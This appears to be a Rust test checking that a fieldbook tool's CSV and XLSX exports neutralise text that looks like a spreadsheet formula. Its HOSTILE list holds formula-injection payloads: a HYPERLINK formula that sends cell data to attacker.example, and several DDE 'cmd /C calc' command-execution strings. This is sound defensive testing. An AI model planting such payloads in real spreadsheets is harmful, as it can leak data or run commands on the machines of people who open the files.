//! Spreadsheets that cannot be turned against the office: text a facilitator (or a hostile
//! bundle) typed that starts like a formula reaches the office's CSV tables neutralised, and its
//! XLSX workbook as a typed string, never a formula.

use calamine::{open_workbook, Data, Reader, Xlsx};
use fieldbook_core::table::TableFormat;
use fieldbook_core::tier::Tier;
use fieldbook_core::{Entity, Passphrase, Store};
use serde_json::json;

const HOSTILE: [&str; 7] = [
    "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
];

#[test]
fn formulas_typed_as_text_are_neutralised_in_csv_and_typed_strings_in_xlsx() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut store = Store::init(dir.path(), &Passphrase::new("spreadsheet words here")).expect("init");
    let obj = |v: serde_json::Value| v.as_object().cloned().unwrap_or_default();
    for title in HOSTILE {
        store.create_session(obj(json!({"title": title, "place": "Market hall"}))).expect("session");
    }
    // Ordinary text, and a minus sign inside text, stay as typed.
    store.create_session(obj(json!({"title": "Well-being - night shifts", "place": "x"}))).expect("session");

    let csv_dir = dir.path().join("tables");
    store.export_tables(&csv_dir, TableFormat::Csv, Tier::Internal).expect("csv");
    let mut reader = csv::Reader::from_path(csv_dir.join("session.csv")).expect("read csv");
    let title = reader.headers().expect("headers").iter().position(|h| h == "title").expect("title column");
    let titles: Vec<String> = reader.records().map(|r| r.expect("row")[title].to_string()).collect();
    for typed in HOSTILE {
        assert!(titles.contains(&format!("'{typed}")), "{typed:?} not neutralised in {titles:?}");
        assert!(!titles.iter().any(|t| t == typed), "{typed:?} reached the CSV as a formula");
    }
    assert!(titles.iter().any(|t| t == "Well-being - night shifts"));
    assert!(titles.iter().all(|t| !t.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{titles:?}");

    let book_path = dir.path().join("tables.xlsx");
    store.export_tables(&book_path, TableFormat::Xlsx, Tier::Internal).expect("xlsx");
    let mut book: Xlsx<_> = open_workbook(&book_path).expect("open xlsx");
    let sheet = book.worksheet_range(Entity::Session.name()).expect("session sheet");
    let formulas = book.worksheet_formula(Entity::Session.name()).expect("formulas");
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no cell is a formula");
    let header: Vec<String> = sheet.rows().next().expect("header").iter().map(|c| c.to_string()).collect();
    let col = header.iter().position(|h| h == "title").expect("title");
    let cells: Vec<&Data> = sheet.rows().skip(1).map(|r| &r[col]).collect();
    for typed in HOSTILE {
        assert!(cells.iter().any(|c| matches!(c, Data::String(s) if s == typed)), "{typed:?} not a typed string");
    }
}
